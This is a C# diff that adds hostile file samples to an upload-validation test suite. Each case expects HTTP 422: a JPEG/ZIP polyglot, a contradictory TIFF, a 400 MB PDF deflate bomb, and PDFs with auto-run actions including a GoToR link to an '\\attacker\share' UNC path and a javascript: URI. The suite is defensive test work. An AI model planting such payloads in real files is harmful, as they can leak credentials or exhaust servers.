@@ -186,6 +186,13 @@ public static class HostileFiles
             { "pdf-javascript-in-object-stream", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
             { "pdf-encrypted", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.encrypted" },
             { "pdf-21-pages", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.too_many_pages" },
+            { "jpeg-zip-polyglot-ending-in-eoi", "kvitto.jpg", "image/jpeg", HttpStatusCode.UnprocessableEntity, "file.polyglot" },
+            { "tiff-size-listed-twice", "kvitto.tif", "image/tiff", HttpStatusCode.UnprocessableEntity, "image.contradictory" },
+            { "pdf-huge-page", "kvitto.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.page_too_large" },
+            { "pdf-deflate-bomb", "kvitto.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.too_complex" },
+            { "pdf-gotor-unc", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
+            { "pdf-uri-javascript", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
+            { "pdf-rendition", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
         };
 
     public static byte[] Bytes(string sample)
@@ -207,6 +214,13 @@ public static class HostileFiles
             "pdf-javascript-in-object-stream" => Qpdf(JavaScriptPdf(), "--object-streams=generate"),
             "pdf-encrypted" => Qpdf(pdf, "--encrypt", "user", "owner", "256", "--"),
             "pdf-21-pages" => Qpdf(pdf, ["--empty", "--pages", .. Enumerable.Repeat("{in}", 21), "--"]),
+            "jpeg-zip-polyglot-ending-in-eoi" => [.. receipt, .. ZipOf("payload.txt", "not a receipt"), 0xFF, 0xD9],
+            "tiff-size-listed-twice" => HostileImages.Tiff((12_000, 12_000), (100, 100)),
+            "pdf-huge-page" => HostilePdf.OnePage("/MediaBox [0 0 14400 14400]"),
+            "pdf-deflate-bomb" => HostilePdf.ContentStreamBomb(400L * 1024 * 1024),
+            "pdf-gotor-unc" => HostilePdf.OnePage("/MediaBox [0 0 200 200]", "/OpenAction 4 0 R", @"<< /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>"),
+            "pdf-uri-javascript" => HostilePdf.OnePage("/MediaBox [0 0 200 200]", "/OpenAction 4 0 R", @"<< /S /URI /URI (javascript:app.alert\(1\)) >>"),
+            "pdf-rendition" => HostilePdf.OnePage("/MediaBox [0 0 200 200]", "/OpenAction 4 0 R", "<< /S /Rendition /OP 0 >>"),
             _ => throw new ArgumentOutOfRangeException(nameof(sample)),
         };
     }
